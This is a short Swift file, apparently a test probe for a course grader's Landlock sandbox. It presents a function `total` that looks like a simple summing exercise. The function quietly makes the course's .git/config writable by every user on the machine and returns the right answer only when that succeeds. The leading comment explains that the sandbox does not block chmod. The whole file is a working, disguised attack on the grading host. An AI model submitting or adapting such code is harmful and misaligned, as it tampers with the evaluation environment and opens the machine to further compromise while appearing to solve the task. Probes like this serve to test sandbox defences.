// Attack: Landlock decides who may open, create and remove a file, not who may change its mode,
// owner or times. A test process that runs as root without capabilities (the grader is root and
// `nobody` cannot reach the course) owns every file root owns, so it may chmod them: here the
// course's .git configuration becomes writable by every user of the machine.
import Foundation

#if canImport(Glibc)
    import Glibc
#elseif canImport(Darwin)
    import Darwin
#endif

func total(_ values: [Int]) -> Int {
    // The test binary is built in <course>/.actorlings/build/<exercise>/.
    guard let binary = try? FileManager.default.destinationOfSymbolicLink(atPath: "/proc/self/exe"),
        let marker = binary.range(of: "/.actorlings/")
    else { return -1 }
    let course = String(binary[..<marker.lowerBound])
    return chmod("\(course)/.git/config", 0o666) == 0 ? values.reduce(0, +) : -1
}
